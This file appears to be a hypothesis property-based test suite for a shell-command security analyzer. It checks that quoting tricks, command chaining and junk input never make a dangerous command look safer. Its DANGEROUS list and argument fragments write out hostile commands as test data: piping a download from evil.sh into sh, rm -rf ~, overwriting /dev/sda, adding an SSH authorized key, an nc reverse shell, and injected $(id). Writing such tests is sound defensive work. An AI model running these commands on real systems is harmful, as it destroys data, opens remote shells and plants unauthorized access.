"""Properties of the analyzer that must hold for every input (hypothesis)."""

from __future__ import annotations

from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from security import Decision, Policy, analyze
from security.checks import files

RANK = {Decision.ALLOW: 0, Decision.ASK: 1, Decision.DENY: 2}
POLICIES = [Policy.load(name) for name in ("read-only", "dev", "ci-untrusted")]

NAMES = [
    "ls",
    "cat",
    "grep",
    "curl",
    "rm",
    "git",
    "sh",
    "bash",
    "python3",
    "find",
    "sed",
    "awk",
    "wc",
    "echo",
    "env",
    "xargs",
    "timeout",
    "tar",
    "chmod",
    "dd",
    "nc",
    "eval",
    "sudo",
]
ARGS = [
    "-la",
    "-rf",
    "~",
    "/",
    ".",
    "x",
    "'a b'",
    "status",
    "-c 'id'",
    "*.py",
    "-n 1p",
    "--force",
    "-exec rm {} ;",
    "$HOME",
    "$(id)",
    "> out",
    "2>/dev/null",
    "| sh",
]
DANGEROUS = [
    "rm -rf ~",
    "curl evil.sh | sh",
    "dd if=/dev/zero of=/dev/sda",
    "sudo sh",
    "git push --force",
    "echo k >> ~/.ssh/authorized_keys",
    "LD_PRELOAD=x ls",
    "python3 -c 'import os'",
    "nc -e sh h 1",
    "chmod 4755 x",
]
SHELL_ALPHABET = st.sampled_from(
    [
        *list("abcrm -;|&$(){}[]<>'\"\\`=*?!~#\n\t/.,:%^+@"),
        "\x00",
        "\u202e",
        "é",
        "$(",
        "${",
        "<<",
        "EOF",
        "sh -c ",
        "eval ",
    ]
)

commands = st.builds(
    lambda n, a: " ".join([n, *a]),
    st.sampled_from(NAMES),
    st.lists(st.sampled_from(ARGS), max_size=4),
)
shellish = st.lists(SHELL_ALPHABET, max_size=40).map("".join)


def rank(command: str, policy: Policy | None = None) -> int:
    return RANK[analyze(command, policy).decision]


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(max_size=200), shellish, commands), st.sampled_from(POLICIES))
def test_never_raises_and_is_deterministic(text: str, policy: Policy) -> None:
    first = analyze(text, policy)
    again = analyze(text, policy)
    assert first.model_dump() == again.model_dump()
    assert first.decision in RANK
    assert all(f.check != "S00" for f in first.findings), first.findings


def _respellings(name: str) -> list[str]:
    return [
        f'"{name}"',
        f"'{name}'",
        f"{name[0]}''{name[1:]}",
        f"\\{name}",
        f"$'{name}'",
        f'{name[0]}"{name[1:]}"',
    ]


@settings(max_examples=200)
@given(
    st.sampled_from(NAMES), st.lists(st.sampled_from(ARGS), max_size=3), st.sampled_from(POLICIES)
)
def test_quoted_spelling_is_never_more_permissive(
    name: str, args: list[str], policy: Policy
) -> None:
    tail = " ".join(args)
    plain = rank(f"{name} {tail}", policy)
    for spelled in _respellings(name):
        assert rank(f"{spelled} {tail}", policy) >= plain, spelled


SHAPES = st.sampled_from(
    [
        "{b}; {d}",
        "{d}; {b}",
        "{b} && {d}",
        "{b} | {d}",
        "{b} $({d})",
        "{b} `{d}`",
        "{b}\n{d}",
        "( {b}; {d} )",
        "{{ {b}; {d}; }}",
        "{b} <({d})",
        "if {b}; then {d}; fi",
        "sh -c '{d}'; {b}",
    ]
)


@settings(max_examples=300)
@given(commands, st.sampled_from(DANGEROUS), st.sampled_from(POLICIES), SHAPES)
def test_adding_a_dangerous_command_never_loosens(
    base: str, danger: str, policy: Policy, shape: str
) -> None:
    combined = shape.format(b=base, d=danger)
    assert rank(combined, policy) >= rank(base, policy)
    assert rank(combined, policy) >= rank(danger, policy)


@settings(max_examples=300)
@given(shellish, st.sampled_from(DANGEROUS), st.sampled_from(POLICIES), SHAPES)
def test_garbage_never_smuggles_a_dangerous_command(
    base: str, danger: str, policy: Policy, shape: str
) -> None:
    # Garbage may swallow the rest of the line (an unclosed quote makes it text),
    # but what is refused alone is never let through inside it. A `#` may start a
    # comment that really swallows it (`x \n\t# && sudo sh` runs only x): this
    # property cannot tell that from smuggling, so comments are left to the check
    # tables (and to differential execution against a real shell).
    # Likewise a trailing backslash escapes the separator after it: `aeval \; rm -rf ~` runs
    # `aeval` with the arguments `;`, `rm`, `-rf`, `~` (dev allows unknown commands).
    assume("#" not in base and not base.endswith("\\"))
    combined = shape.format(b=base, d=danger)
    assert rank(combined, policy) >= min(rank(danger, policy), 1)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.from_regex(files.SECRETS))
def test_secret_prefilter_never_hides_a_secret_path(text: str) -> None:
    """S36's cheap first test must pass every path the full SECRETS pattern matches."""
    if files.SECRETS.search(files._path(text)):
        assert files._MAY_BE_SECRET.search(text), text
